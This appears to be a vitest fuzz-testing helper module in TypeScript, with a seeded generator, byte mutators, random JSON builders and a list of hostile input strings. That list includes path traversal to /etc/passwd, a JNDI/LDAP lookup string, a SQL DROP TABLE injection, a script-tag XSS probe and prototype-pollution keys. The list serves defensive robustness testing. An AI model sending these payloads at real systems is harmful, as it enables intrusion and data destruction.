import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { onTestFailed } from 'vitest';

/**
 * Shared pieces for fuzz tests: a seeded generator (reproducible; the seed is printed when a test fails),
 * bounded loops (iteration count and time budget), byte mutations of valid messages, and hostile JSON.
 *
 * Environment overrides, for a longer run or to replay a failure:
 * - `SEE_FUZZ_SEED`: the seed every fuzz loop starts from (decimal or 0x hex);
 * - `SEE_FUZZ_ITERATIONS`: the iteration count of every fuzz loop (its time budget still applies);
 * - `SEE_FUZZ_BUDGET_MS`: the time budget of every fuzz loop;
 * - `SEE_FUZZ_VERBOSE=1`: print each loop's seed, iterations run and duration.
 */

export interface Fuzz {
  readonly name: string;
  readonly seed: number;
  /** How many iterations this loop should run (the default, or `SEE_FUZZ_ITERATIONS`). */
  readonly iterations: number;
  /** [0, 1) */
  next(): number;
  /** An integer in [0, n). */
  int(n: number): number;
  /** An integer in [lo, hi]. */
  between(lo: number, hi: number): number;
  chance(p: number): boolean;
  pick<T>(items: readonly T[]): T;
  bytes(n: number): Buffer;
  /** `name seed 0x… iteration i`: for assertion messages. */
  where(detail?: unknown): string;
  /**
   * Runs `body` for each iteration until the count or the time budget is reached; returns how many ran.
   * The iteration index is what `where` reports.
   */
  loop(body: (i: number) => void | Promise<void>): Promise<number>;
}

function envNumber(name: string): number | undefined {
  const raw = process.env[name];
  if (raw === undefined || raw.trim() === '') return undefined;
  const n = Number(raw.trim());
  if (!Number.isFinite(n)) throw new Error(`${name} must be a number, got ${JSON.stringify(raw)}`);
  return n;
}

/** mulberry32: small, fast, and good enough to spread test inputs. */
export function prng(seed: number): () => number {
  let s = seed >>> 0;
  return () => {
    s = (s + 0x6d2b79f5) >>> 0;
    let t = s;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 2 ** 32;
  };
}

export interface FuzzOptions {
  seed: number;
  iterations: number;
  /** Stop early (without failing) once this much time has passed. */
  budgetMs: number;
}

/**
 * A fuzz loop's generator. Call it inside a test: when the test fails, the seed and how to replay it
 * are printed.
 */
export function fuzz(name: string, defaults: FuzzOptions): Fuzz {
  const seed = (envNumber('SEE_FUZZ_SEED') ?? defaults.seed) >>> 0;
  const iterations = Math.max(0, Math.floor(envNumber('SEE_FUZZ_ITERATIONS') ?? defaults.iterations));
  const budgetMs = envNumber('SEE_FUZZ_BUDGET_MS') ?? defaults.budgetMs;
  const rand = prng(seed);
  let current = -1;
  const hexSeed = `0x${seed.toString(16)}`;
  try {
    onTestFailed(() => {
      console.error(`fuzz "${name}" failed at iteration ${current} with seed ${hexSeed}; replay with SEE_FUZZ_SEED=${hexSeed}`);
    });
  } catch {
    // Not inside a test (e.g. a helper called from a hook): the assertion messages still carry the seed.
  }
  const f: Fuzz = {
    name,
    seed,
    iterations,
    next: rand,
    int: (n) => Math.floor(rand() * n),
    between: (lo, hi) => lo + Math.floor(rand() * (hi - lo + 1)),
    chance: (p) => rand() < p,
    pick: (items) => items[Math.floor(rand() * items.length)]!,
    bytes(n) {
      const b = Buffer.alloc(n);
      for (let i = 0; i < n; i++) b[i] = Math.floor(rand() * 256);
      return b;
    },
    where: (detail) => `${name} seed ${hexSeed} iteration ${current}${detail === undefined ? '' : `: ${typeof detail === 'string' ? detail : JSON.stringify(detail)?.slice(0, 300)}`}`,
    async loop(body) {
      const started = Date.now();
      let ran = 0;
      for (let i = 0; i < iterations; i++) {
        if (Date.now() - started > budgetMs) break;
        current = i;
        await body(i);
        ran++;
      }
      if (process.env.SEE_FUZZ_VERBOSE) console.log(`fuzz "${name}" seed ${hexSeed}: ${ran}/${iterations} iterations in ${Date.now() - started} ms`);
      return ran;
    },
  };
  return f;
}

/** Boundary byte values that tend to be lengths, versions and type codes. */
const boundaryBytes = [0x00, 0x01, 0x02, 0x03, 0x04, 0x05, 0x7f, 0x80, 0xfe, 0xff];

/**
 * One random mutation of a valid message: truncation, bit flips, boundary bytes, extreme 16-bit
 * lengths, insertions, deletions, duplication, or extra bytes at the end.
 */
export function mutateBytes(f: Fuzz, input: Buffer): Buffer {
  const out = Buffer.from(input);
  if (out.length === 0) return f.bytes(f.between(1, 16));
  switch (f.int(8)) {
    case 0:
      return out.subarray(0, f.int(out.length));
    case 1: {
      for (let n = f.between(1, 8); n > 0; n--) {
        const at = f.int(out.length);
        out[at] = out[at]! ^ (1 << f.int(8));
      }
      return out;
    }
    case 2: {
      for (let n = f.between(1, 3); n > 0; n--) out[f.int(out.length)] = f.pick(boundaryBytes);
      return out;
    }
    case 3: {
      if (out.length < 2) return out;
      out.writeUInt16BE(f.pick([0, 1, 0x7fff, 0x8000, 0xffff, f.int(0x10000)]), f.int(out.length - 1));
      return out;
    }
    case 4: {
      const at = f.int(out.length + 1);
      return Buffer.concat([out.subarray(0, at), f.bytes(f.between(1, 32)), out.subarray(at)]);
    }
    case 5: {
      const at = f.int(out.length);
      return Buffer.concat([out.subarray(0, at), out.subarray(at + f.between(1, 8))]);
    }
    case 6: {
      const at = f.int(out.length);
      const slice = out.subarray(at, at + f.between(1, 32));
      return Buffer.concat([out.subarray(0, at), slice, slice, out.subarray(at + slice.length)]);
    }
    default:
      return Buffer.concat([out, f.bytes(f.between(1, 64))]);
  }
}

/** One to three mutations in a row. */
export function mutateBytesMany(f: Fuzz, input: Buffer): Buffer {
  let out = input;
  for (let n = f.between(1, 3); n > 0; n--) out = mutateBytes(f, out);
  return out;
}

/**
 * Strings a hostile client sends: path tricks, control and format characters, unpaired surrogates,
 * prototype keys, injection-looking text, numbers-as-text. Only names under example domains and
 * addresses in 198.18.0.0/15 look like destinations, so nothing derived from them leaves the machine.
 */
export const hostileStrings: readonly string[] = [
  '',
  ' ',
  '\t\r\n',
  '../../etc/passwd',
  '..%2F..%2Fetc%2Fpasswd',
  '/',
  '\\',
  '.',
  '..',
  '\u0000',
  'a\u0000b',
  '\u202e\u0644\u0627',
  '\ud800',
  '\udfff\ud800',
  '\ufeff',
  '😀🏳️‍🌈',
  'İSTANBUL ß ǅ',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '${jndi:ldap://x.example.com/a}',
  "'; DROP TABLE sandboxes; --",
  '<script>alert(1)</script>',
  '%s%s%n',
  '%',
  '%zz',
  '%ff%fe',
  'null',
  'true',
  '0',
  '-1',
  '1e309',
  'NaN',
  'allow',
  'deny',
  'allow-all',
  'block-all',
  'socks5',
  'tcp',
  'udp',
  'static_username_password',
  'username_password',
  'api.internal.example.com',
  '*.example.com',
  '*.',
  'fuzz.example.com:1080',
  '198.18.0.10',
  '198.19.255.255',
  '198.18.0.0/15',
  '198.18.0.10:443',
  '[2001:db8::1]:443',
  '2001:db8::1',
];

/** Characters random strings are made of: ASCII, JSON-special, controls and a few non-ASCII planes. */
const stringAlphabet = [...'abcdefghijklmnopqrstuvwxyzABC0123456789-_.:/*@?#[]{}"\'\\ \t\n', '\u0000', '\u001f', '\u00e9', '\u0100', '\u4e2d', '\ud83d\ude00', '\u2028', '\ufffd'];

export function randomString(f: Fuzz, maxLength = 24): string {
  if (f.chance(0.4)) return f.pick(hostileStrings);
  let s = '';
  for (let n = f.int(maxLength + 1); n > 0; n--) s += f.pick(stringAlphabet);
  return s;
}

/** Numbers at the edges of int32, int64, float64 and JSON's text forms (NaN/Infinity are not JSON). */
export const edgeNumbers: readonly number[] = [0, -0, 1, -1, 0.5, -1.5, 255, 256, 65535, 65536, 2147483647, 2147483648, -2147483649, 2 ** 53, 2 ** 53 + 2, -(2 ** 63), 1e21, 1e308, -1e308, 5e-324];

export function randomNumber(f: Fuzz): number {
  return f.chance(0.6) ? f.pick(edgeNumbers) : (f.next() - 0.5) * 10 ** f.int(12);
}

/** A random JSON value of any type, at most `depth` levels deep. */
export function randomJson(f: Fuzz, depth = 3): unknown {
  const kinds = depth <= 0 ? 4 : 6;
  switch (f.int(kinds)) {
    case 0:
      return null;
    case 1:
      return f.chance(0.5);
    case 2:
      return randomNumber(f);
    case 3:
      return randomString(f);
    case 4:
      return Array.from({ length: f.int(5) }, () => randomJson(f, depth - 1));
    default: {
      const o: Record<string, unknown> = {};
      for (let n = f.int(5); n > 0; n--) o[randomString(f, 8)] = randomJson(f, depth - 1);
      return o;
    }
  }
}

/** Values of every JSON type, to put where a field expects one type. */
export function wrongTypes(f: Fuzz): unknown[] {
  return [null, true, false, randomNumber(f), 1.5, -1, randomString(f), '', [], [randomJson(f, 1)], {}, { [randomString(f, 6)]: randomJson(f, 1) }];
}

export type JsonPath = readonly (string | number)[];

/** Every path into objects and arrays of `value` (the root excluded), parents before children. */
export function jsonPaths(value: unknown, prefix: JsonPath = []): JsonPath[] {
  if (value === null || typeof value !== 'object') return [];
  const entries: [string | number, unknown][] = Array.isArray(value) ? value.map((v, i) => [i, v]) : Object.entries(value);
  return entries.flatMap(([k, v]) => [[...prefix, k], ...jsonPaths(v, [...prefix, k])]);
}

/** A deep copy of `root` with the value at `path` replaced. */
export function setAtPath(root: unknown, path: JsonPath, value: unknown): unknown {
  if (path.length === 0) return value;
  const [head, ...rest] = path;
  const child = root !== null && typeof root === 'object' ? (root as Record<string | number, unknown>)[head!] : undefined;
  const copy: any = Array.isArray(root) ? [...root] : root !== null && typeof root === 'object' ? { ...root } : {};
  // defineProperty, so that a `__proto__` key becomes an own property (as JSON.parse makes it), not the prototype.
  Object.defineProperty(copy, head!, { value: setAtPath(child, rest, value), enumerable: true, writable: true, configurable: true });
  return copy;
}

/** `depth` nested arrays or objects around `1`, as JSON text (built without recursion). */
export function deeplyNested(depth: number, kind: 'array' | 'object'): string {
  return kind === 'array' ? '['.repeat(depth) + '1' + ']'.repeat(depth) : '{"a":'.repeat(depth) + '1' + '}'.repeat(depth);
}

/** Byte sequences that are not UTF-8: a lone continuation byte, overlongs, a surrogate, past U+10FFFF, truncated. */
export const invalidUtf8: readonly Buffer[] = [[0x80], [0xff], [0xc0, 0x80], [0xe0, 0x80, 0xaf], [0xed, 0xa0, 0x80], [0xf4, 0x90, 0x80, 0x80], [0xe2, 0x82], [0xf0, 0x9f, 0x98]].map((b) => Buffer.from(b));

/**
 * Runs a full garbage collection when the runtime allows it (it exposes `gc` on request), so heap
 * figures compare live data rather than garbage; returns false when it could not.
 */
export function collectGarbage(): boolean {
  try {
    setFlagsFromString('--expose-gc');
    const gc = runInNewContext('gc') as (() => void) | undefined;
    if (typeof gc !== 'function') return false;
    gc();
    gc();
    return true;
  } catch {
    return false;
  }
}
